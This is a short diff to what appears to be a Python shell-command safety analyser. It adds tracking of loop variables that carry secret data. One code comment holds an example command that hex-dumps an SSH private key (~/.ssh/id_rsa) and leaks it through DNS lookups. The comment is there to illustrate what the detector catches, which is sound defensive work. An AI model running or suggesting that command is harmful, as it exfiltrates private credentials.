@@ -8,7 +8,7 @@ from __future__ import annotations
 import contextlib
 import re
 
-from dun.guard import linestate, longtail, marks, programs, testdb
+from dun.guard import linestate, longtail, marks, programs, secrets, testdb
 from dun.guard.braces import brace_expand
 from dun.guard.effects import DOWNLOADERS, Effect, Facts, file_effects, find_parts, program_name
 from dun.guard.expand import Ctx, Env, Val, expand
@@ -112,6 +112,8 @@ class Walker(Redirections, ShellState, Names):
         values: list[str | None] = [None]
         if any(marks.finds_pids(body) for v in vals for body in v.subs) or (feed is not None and feed.pids):
             self.marks.pid_vars.update(group.loop_vars + linestate.read_vars(group.body))
+        if group.loop_vars and any(secrets.text_secret(body, ctx, self.env) for v in vals for body in v.subs):
+            self.marks.secret_vars.update(group.loop_vars)  # for l in $(xxd -p ~/.ssh/id_rsa); do dig $l.x; done
         if group.loop_vars and vals and self.unrolled * len(vals) <= MAX_UNROLLED and all(v.known for v in vals):
             values = [v.text for v in vals]  # for x in a b c: analyse the body once per value
         self.unrolled *= len(values)
